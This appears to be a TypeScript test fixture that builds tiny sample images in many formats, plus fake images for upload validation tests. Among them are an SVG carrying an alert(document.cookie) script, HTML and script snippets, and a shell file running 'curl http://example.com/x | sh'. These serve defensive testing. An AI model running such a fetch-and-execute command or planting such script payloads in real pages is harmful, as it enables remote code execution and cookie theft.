// Small images of every accepted type, and files that only pretend to be images, for the
// upload tests. PNG, GIF and WebP are complete 1x1 images; the others are built from their
// format's headers, which is all the type check reads.

const b64 = (s: string) => new Uint8Array(Buffer.from(s, "base64"));
const bytes = (...parts: (number[] | string | Uint8Array)[]) =>
  new Uint8Array(
    Buffer.concat(
      parts.map((p) => (typeof p === "string" ? Buffer.from(p, "latin1") : Buffer.from(p as Uint8Array))),
    ),
  );
const le32 = (n: number) => [n & 0xff, (n >> 8) & 0xff, (n >> 16) & 0xff, (n >>> 24) & 0xff];
const le16 = (n: number) => [n & 0xff, (n >> 8) & 0xff];
const be32 = (n: number) => [(n >>> 24) & 0xff, (n >> 16) & 0xff, (n >> 8) & 0xff, n & 0xff];

/** A red 1x1 PNG. */
export const PNG = b64(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg==",
);
export const GIF = b64("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7");
export const WEBP = b64("UklGRhoAAABXRUJQVlA4TA0AAAAvAAAAEAcQERGIiP4HAA==");
/** SOI, an APP0 (JFIF) segment, then an end-of-image marker. */
export const JPEG = bytes(
  [0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10],
  "JFIF\0",
  [1, 1, 0, 0, 1, 0, 1, 0, 0, 0xff, 0xd9],
);
/** An ISO-BMFF `ftyp` box naming AVIF, then an empty `meta` box. */
export const AVIF = bytes(be32(28), "ftypavif", be32(0), "avifmif1miaf", be32(8), "meta");
/** One icon entry holding the PNG above. */
export const ICO = bytes(
  [0, 0, 1, 0, 1, 0],
  [1, 1, 0, 0, ...le16(1), ...le16(32), ...le32(PNG.length), ...le32(22)],
  PNG,
);
/** A 1x1, 24-bit BMP with a BITMAPINFOHEADER. */
export const BMP = bytes(
  "BM",
  le32(58),
  le32(0),
  le32(54),
  le32(40),
  le32(1),
  le32(1),
  le16(1),
  le16(24),
  le32(0),
  le32(4),
  le32(2835),
  le32(2835),
  le32(0),
  le32(0),
  [0, 0, 0xff, 0],
);
export const SVG = new TextEncoder().encode(
  '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10"><rect width="10" height="10" fill="red"/></svg>',
);
/** An SVG that carries a script: accepted, and served so that the script never runs. */
export const SVG_WITH_SCRIPT = new TextEncoder().encode(
  '<?xml version="1.0" encoding="UTF-8"?>\n<!-- made by hand -->\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>',
);

const text = (s: string) => new TextEncoder().encode(s);
/** Files that are no image, whatever their name says. */
export const NOT_IMAGES = {
  script: text("<script>alert(1)</script>"),
  html: text("<!doctype html><html><body><script>alert(1)</script></body></html>"),
  shell: text("#!/bin/sh\ncurl http://example.com/x | sh\n"),
  empty: new Uint8Array(0),
} as const;

/** A PNG of exactly `size` bytes: the 1x1 image padded with zeros (the type check reads the head). */
export function pngOfSize(size: number): Uint8Array {
  const out = new Uint8Array(size);
  out.set(PNG.subarray(0, Math.min(PNG.length, size)));
  return out;
}
